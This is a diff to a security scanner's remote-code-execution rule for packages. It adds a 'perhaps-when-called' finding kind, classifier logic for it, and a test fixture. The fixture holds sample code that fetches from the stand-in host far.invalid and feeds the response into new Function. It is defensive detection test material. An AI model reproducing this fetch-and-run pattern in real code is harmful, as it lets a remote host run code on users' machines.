@@ -33,6 +33,11 @@ export const remoteCodeExecuted: Rule = defineRule({
       level: 'review',
       about: 'A method is called on loading, and it is one of several of that name that does it.',
     },
+    'perhaps-when-called': {
+      level: 'notice',
+      about:
+        'A function makes code of what its caller gives, and only a name that others have too ties an answer to it.',
+    },
     'known-address': {
       level: 'notice',
       about: "When a function is called, from an address that stands word for word in the old version's code.",
@@ -40,6 +45,25 @@ export const remoteCodeExecuted: Rule = defineRule({
     'by-request': { level: 'block', about: 'Whoever sends a request to the server decides what runs there.' },
   },
   flags: [
+    {
+      title: 'a template of the caller, into which a field that others have too may put an answer',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `
+const table = require('sample');
+exports.read = () => require('https').get('https://far.invalid/', (answer) => { table.part = answer; });
+exports.compile = (source) => { for (const one of table.list()) return new Function('data', source + one.part); };
+`,
+      },
+      expect: [
+        {
+          kind: 'perhaps-when-called',
+          message: 'Function runs what the network answered: data …',
+          at: { in: 'tarball', path: 'index.js', line: 4 },
+          via: ['main', 'index.js', 'compile()'],
+        },
+      ],
+    },
     {
       title: 'an answer gathered in pieces and given to eval',
       before: { 'index.js': '' },
@@ -320,10 +344,13 @@ exports.page = (req) => exports.compile('return data')(req.url);
   },
 });
 
-type Kind = 'when-called' | 'perhaps-at-load' | 'known-address' | 'by-request';
+type Kind = 'when-called' | 'perhaps-at-load' | 'perhaps-when-called' | 'known-address' | 'by-request';
 
-function kindOf({ tier, doubtful, api, detail, origins }: Behavior, before: PackageTree | undefined): Kind | undefined {
+function kindOf(behavior: Behavior, before: PackageTree | undefined): Kind | undefined {
+  const { kind, tier, doubtful, api, detail, origins, guessed = [] } = behavior;
   if (tier !== 'call') return doubtful ? 'perhaps-at-load' : undefined;
+  if (kind === 'dynamic-code' && guessed.includes('fetched') && origins.includes('parameter'))
+    return 'perhaps-when-called';
   const address = loadsAddress.has(api) && origins.length === 0 ? detail?.replace(/^(?:https?:)?\/\//i, '') : undefined;
   return address !== undefined && holdsAddress(before, address) ? 'known-address' : 'when-called';
 }
